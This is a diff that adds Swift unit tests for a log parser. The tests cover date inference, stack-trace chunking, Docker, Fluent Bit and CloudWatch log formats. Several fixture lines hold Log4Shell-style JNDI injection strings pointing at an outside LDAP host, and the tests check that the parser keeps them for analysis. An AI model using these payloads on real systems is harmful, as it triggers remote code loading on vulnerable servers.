@@ -206,4 +206,77 @@ import Testing
   func whatIsNoTimeOfMySQL(_ text: String) {
     #expect(EventDump.recognize(Array(text.utf8), path: "x.log")?.name != "app.log")
   }
+
+  /// log4j's own pattern has no date, and goes into catalina.out below lines that have one.
+  @Test func timesOfDayBelowADate() throws {
+    let text = """
+      25-Nov-2026 23:59:01.123 INFO [main] org.apache.catalina.startup.Catalina.start Server startup
+      23:59:58.500 [http-nio-8080-exec-1] ERROR com.acme.Login - user ${jndi:ldap://198.51.100.7:1389/a}
+      java.lang.IllegalStateException: x
+      \tat com.acme.Login.doPost(Login.java:12)
+      00:00:02,250 INFO  [org.jboss.as] (MSC service thread 1-1) started
+      12:00:00 is noon, said the text
+      12:00:00.000 is noon as well
+
+      """
+    let dump = try EventDump(text, path: "catalina.out")
+    #expect(dump.format == "app.log" && HostileInputTests.isWhole(dump, text.utf8.count))
+    #expect(dump.events.count == 3)
+    #expect(
+      dump.events.map { $0.time?.description } == [
+        "2026-11-25T23:59:01.123Z", "2026-11-25T23:59:58.500Z", "2026-11-26T00:00:02.250Z",
+      ])
+    #expect(dump.events.map { $0.text("level") } == ["INFO", "ERROR", "INFO"])
+    #expect(dump.events.map { $0.text("thread") }.prefix(2) == ["main", "http-nio-8080-exec-1"])
+    #expect(dump.events.map { $0.text("day") } == [nil, "inferred", "inferred"])
+    #expect(dump.events.last?.text("text")?.hasSuffix("noon as well") == true)
+
+    // Where no date comes at all there is no time, and the entries are told apart all the same.
+    let alone = "04:10:01.123 [main] INFO a.B - x\n\tat y\n04:10:02.123 [main] WARN a.B - z\n"
+    let bare = try EventDump(alone, path: "x.log")
+    #expect(bare.format == "app.log" && bare.events.count == 2 && bare.events.allSatisfy { $0.time == nil })
+  }
+
+  /// Whatever a program prints without a time is kept, in pieces, and so is an attack in it.
+  @Test func longEntries() throws {
+    let line = "\tat com.acme.Login.doPost(Login.java:123)\n"
+    let trace = String(repeating: line, count: 5000)
+    let text = "2026-11-25 05:20:26,245 ERROR [main] x\n\(trace)${jndi:ldap://198.51.100.7/a}\n\(trace)"
+    let dump = try EventDump(text, path: "app.log")
+    #expect(HostileInputTests.isWhole(dump, text.utf8.count))
+    #expect(dump.events.count > 5 && dump.events.allSatisfy { ($0.text("text")?.utf8.count ?? 0) <= 1 << 16 })
+    #expect(dump.events.contains { $0.text("text")?.contains("${jndi:ldap://198.51.100.7/a}") == true })
+    #expect(dump.events.dropFirst().allSatisfy { $0["continued"] == .flag(true) && $0.time == dump.events.first?.time })
+    #expect(dump.events.reduce(0) { $0 + ($1.integer("lines").map(Int.init) ?? 1) } == 10_002)
+
+    let parts = (0..<3000).map {
+      "{\"log\":\"\($0) \(String(repeating: "x", count: 60))\",\"stream\":\"stdout\",\"time\":\"2026-11-25T05:20:12Z\"}\n"
+    }
+    let last = "{\"log\":\"${jndi:x}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-25T05:20:12Z\"}\n"
+    let docker = try EventDump(parts.joined() + last, path: "0123-json.log")
+    #expect(docker.events.count > 1 && docker.events.last?.text("text")?.hasSuffix("${jndi:x}") == true)
+    // Fluent Bit leaves the line's end away and keeps the mark of the runtime.
+    let marked = String(
+      repeating: "{\"time\":\"2026-11-25T05:20:12Z\",\"stream\":\"stdout\",\"_p\":\"F\",\"log\":\"x\"}\n", count: 3)
+    #expect(try EventDump(marked, path: "x.log").events.map { $0.text("text") } == ["x", "x", "x"])
+  }
+
+  /// CloudWatch Logs writes its own time in front when it exports.
+  @Test func exportedMessages() throws {
+    let text = """
+      2026-11-25T05:20:12.000Z 25-Nov-2026 05:20:12.345 WARNING [exec-1] com.acme.Login.doPost x
+      2026-11-25T05:20:13.000Z 2026-11-25 05:20:13,345 ERROR [exec-2] com.acme.Login y
+
+      """
+    let dump = try EventDump(text, path: "000000")
+    #expect(dump.format == "app.log" && dump.events.map { $0.text("level") } == ["WARNING", "ERROR"])
+    #expect(dump.events.map { $0.text("thread") } == ["exec-1", "exec-2"])
+    #expect(dump.events.first?.time == Timestamp(iso8601: "2026-11-25T05:20:12.000Z"))
+    let syslog =
+      "2026-11-25T05:20:12.000Z Nov 25 05:20:11 web-1 sshd[77]: Accepted password for root from 203.0.113.9 port 5 ssh2\n"
+    let login = try EventDump(syslog, path: "000000")
+    #expect(login.format == "linux.syslog" && login.events.first?.text("host") == "web-1")
+    #expect(login.events.first?.text("action") == "login_accepted")
+    #expect(login.events.first?.time == Timestamp(iso8601: "2026-11-25T05:20:12.000Z"))
+  }
 }
